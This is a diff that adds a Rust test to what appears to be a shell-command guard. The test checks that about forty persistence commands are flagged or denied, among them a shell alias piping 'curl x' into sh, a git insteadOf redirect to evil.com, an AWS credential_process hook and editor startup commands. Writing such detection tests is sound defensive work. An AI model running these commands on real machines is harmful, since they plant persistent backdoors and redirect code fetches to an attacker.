@@ -82,6 +82,145 @@ fn persistence_targets_by_any_tool() {
     }
 }
 
+/// The targets added for issue 10's adversary, by kind, with several values each.
+#[test]
+fn more_persistence_kinds() {
+    let kinds = [
+        (
+            "echo \"alias ls='curl x|sh'\" >> ~/.bash_aliases",
+            "persist.shell_startup",
+        ),
+        ("echo x >> ~/.bash_logout", "persist.shell_startup"),
+        ("echo x >> ~/.zlogin", "persist.shell_startup"),
+        ("echo 'curl x | sh' > .envrc", "persist.shell_startup"),
+        ("echo x > /home/dev/other/.envrc", "persist.shell_startup"),
+        (
+            "echo 'import os' > ~/.local/lib/python3.12/site-packages/zz.pth",
+            "persist.language_startup",
+        ),
+        (
+            "echo 'import x' > .venv/lib/python3.11/site-packages/a.pth",
+            "persist.language_startup",
+        ),
+        (
+            "cp x.py /usr/lib/python3/dist-packages/sitecustomize.py",
+            "persist.language_startup",
+        ),
+        (
+            "echo x > ~/.local/lib/python3.12/site-packages/usercustomize.py",
+            "persist.language_startup",
+        ),
+        ("echo 'import os' > ~/.pythonrc", "persist.language_startup"),
+        (
+            "echo 'system(\"id\")' >> ~/.irbrc",
+            "persist.language_startup",
+        ),
+        (
+            "printf '[build]\\nrustc-wrapper = \"/tmp/w\"' >> ~/.cargo/config.toml",
+            "persist.tool_config",
+        ),
+        (
+            "printf '[target.x]\\nrunner = \"sh\"' > .cargo/config.toml",
+            "persist.tool_config",
+        ),
+        ("cp x ~/.cargo/bin/cargo", "persist.user_bin"),
+        (
+            "cp init.gradle ~/.gradle/init.d/a.gradle",
+            "persist.tool_config",
+        ),
+        (
+            "printf '[default]\\ncredential_process = sh x' >> ~/.aws/config",
+            "persist.tool_config",
+        ),
+        ("echo 'output = /tmp/x' >> ~/.wgetrc", "persist.tool_config"),
+        (
+            "echo 'autocmd VimEnter * !id' >> ~/.vimrc",
+            "persist.editor_config",
+        ),
+        (
+            "echo 'os.execute(\"id\")' > ~/.config/nvim/init.lua",
+            "persist.editor_config",
+        ),
+        ("echo x >> ~/.emacs", "persist.editor_config"),
+        ("cp x.el ~/.emacs.d/init.el", "persist.editor_config"),
+        (
+            "echo 'run-shell id' >> ~/.tmux.conf",
+            "persist.editor_config",
+        ),
+        ("echo 'shell id' >> ~/.gdbinit", "persist.editor_config"),
+        ("echo x >> ~/.screenrc", "persist.editor_config"),
+        (
+            "cp x.desktop ~/.local/share/applications/x.desktop",
+            "persist.desktop_entry",
+        ),
+        (
+            "systemd-run --user --on-calendar=hourly sh -c id",
+            "persist.systemd",
+        ),
+        (
+            "systemd-run --user --on-active=30 /tmp/x",
+            "persist.systemd",
+        ),
+        ("loginctl enable-linger", "persist.systemd"),
+        (
+            "git config --global url.https://evil.com/.insteadOf https://github.com/",
+            "persist.git_config",
+        ),
+        (
+            "git config url.git@evil.com:.pushInsteadOf git@github.com:",
+            "persist.git_config",
+        ),
+        ("git config --global core.editor vim", "persist.git_config"),
+        (
+            "git config --global core.editor 'code --wait'",
+            "persist.git_config",
+        ),
+        (
+            "git config --global core.pager 'less -R'",
+            "persist.git_config",
+        ),
+        ("git config --global gpg.program gpg2", "persist.git_config"),
+        ("git config core.hooksPath .husky", "persist.git_config"),
+        (
+            "git config --global core.sshCommand 'ssh -i ~/.ssh/work_key'",
+            "persist.git_config",
+        ),
+        (
+            "git config diff.pdf.textconv pdftotext",
+            "persist.git_config",
+        ),
+        (
+            "git config --system filter.lfs.smudge 'git-lfs smudge %f'",
+            "persist.git_config",
+        ),
+    ];
+    for (cmd, rule) in kinds {
+        let d = shell(cmd, false).unwrap_or_else(|| panic!("{cmd}"));
+        assert_eq!(
+            (d.verdict, d.reason, d.rules.first().map(String::as_str)),
+            (Verdict::Ask, Reason::PersistWrite, Some(rule)),
+            "{cmd}"
+        );
+        assert_eq!(
+            shell(cmd, true).map(|d| d.verdict),
+            Some(Verdict::Deny),
+            "{cmd}"
+        );
+    }
+    for cmd in [
+        "systemd-run --user --scope make",
+        "loginctl list-sessions",
+        "git config --global user.name Dev",
+        "git config --global alias.st status",
+        "git config --get core.editor",
+        "cat ~/.vimrc",
+        "echo x > notes/vimrc.txt",
+        "echo x > src/site.pth.txt",
+    ] {
+        assert!(shell(cmd, false).is_none(), "{cmd}");
+    }
+}
+
 #[test]
 fn everyday_writes_stay_silent() {
     for cmd in [
